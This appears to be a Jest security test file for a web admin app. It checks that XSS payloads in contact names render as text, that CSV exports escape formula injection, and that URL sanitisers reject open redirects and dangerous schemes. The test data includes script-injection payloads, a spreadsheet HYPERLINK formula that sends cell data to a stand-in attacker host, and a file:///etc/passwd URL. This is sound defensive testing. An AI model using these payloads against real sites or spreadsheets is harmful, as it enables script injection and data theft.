/** @jest-environment jsdom */
import '../admin/support/browser';
import '../admin/support/matchers';
import { screen } from '@testing-library/react';
import { toCsv } from '../../admin/src/shared/csv';
import ContactsPage from '../../admin/src/contacts/contacts-page';
import InvitationPage from '../../admin/src/invitations/invitation-page';
import { isNavigableUrl } from '../../contracts';
import { safeUrl } from '../../widget/src/safe-url';
import { FakeServer } from '../admin/support/fake-server';
import { contactOf, customers, invitationOf } from '../admin/support/records';
import { renderAdmin } from '../admin/support/render-admin';

const SCRIPTS = [
  '<script>window.stolen = true</script>',
  '"><img src=x onerror="window.stolen = true">',
  '<svg onload="window.stolen = true">',
  '{{constructor.constructor("window.stolen = true")()}}',
];

describe('stored script in contact names shown in admin and mail', () => {
  let server: FakeServer;

  beforeEach(() => {
    server = new FakeServer();
    server.install();
  });

  const expectText = (): void => {
    expect(document.querySelectorAll('script, img[src="x"], svg[onload], [onerror]')).toHaveLength(0);
    expect('stolen' in window).toBe(false);
  };

  it.each(SCRIPTS)('is shown as text in the list of contacts: %s', async (name) => {
    const contact = {
      ...contactOf({ fullName: name, firstName: name, company: name, jobTitle: name }),
      portalAccess: [],
    };
    server
      .on('GET /contacts', { body: { data: [contact], meta: { nextCursor: null } } })
      .on('GET /portals', { body: { data: [customers], meta: { nextCursor: null } } });
    await renderAdmin(<ContactsPage />, { at: '/contacts', route: '/contacts' });
    expect(await screen.findByRole('link', { name })).toBeVisible();
    expectText();
  });

  it.each(SCRIPTS)(
    'is shown as text on the invitation page, with the e-mail in a sandbox: %s',
    async (name) => {
      const invitation = invitationOf({
        contact: { id: 'contact-1', fullName: name, email: 'ada@example.com' },
      });
      server.on('GET /invitations/invitation-1', {
        body: {
          data: {
            ...invitation,
            timeline: [{ event: 'failed', at: '2026-11-20T09:29:00.000Z', actor: name, detail: name }],
            emails: [
              {
                ...{ id: 'e', status: 'sent', active: false, to: 'ada@example.com', text: '', sentAt: null },
                ...{ subject: name, html: name },
              },
            ],
          },
        },
      });
      const { user } = await renderAdmin(<InvitationPage />, {
        at: '/invitations/invitation-1',
        route: '/invitations/:id',
      });
      const buttons = await screen.findAllByRole('button');
      await user.click(buttons.find((button) => button.textContent?.includes(name)) as HTMLElement);
      const frame = document.querySelector('iframe');
      expect(frame).toHaveAttribute('sandbox', '');
      expectText();
    }
  );
});

describe('CSV formulas', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '=1\n+2',
    '＝1+1',
    '=HYPERLINK("https://evil.example.net?"&A1,"x")',
  ])('are escaped in the file: %j', (value) => {
    expect(toCsv([[value]])).toBe(`"'${value.replaceAll('"', '""')}"`);
  });

  it('cannot break out of a cell', () => {
    expect(toCsv([['a","=1+1', 'b\r\n=1+1']])).toBe('"a"",""=1+1","b\r\n=1+1"');
  });
});

describe('open redirects', () => {
  const FORBIDDEN = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\nscript:alert(1)',
    ' \u0001javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    '//evil.example.net',
    '/\\evil.example.net',
    '\\\\evil.example.net',
    '/\t/evil.example.net',
    'file:///etc/passwd',
    'blob:https://www.example.com/x',
  ];

  it.each(FORBIDDEN)('are refused by the element: %j', (url) => {
    expect(safeUrl(url)).toBeNull();
  });

  it.each(FORBIDDEN)('are refused by the page picker: %j', (url) => {
    expect(isNavigableUrl(url)).toBe(false);
  });

  it('do not affect ordinary URLs of a site', () => {
    for (const url of ['/welcome?a=b#c', 'https://www.example.com/x', 'http://localhost:1337/']) {
      expect([safeUrl(url) === null, isNavigableUrl(url)]).toEqual([false, true]);
    }
  });
});
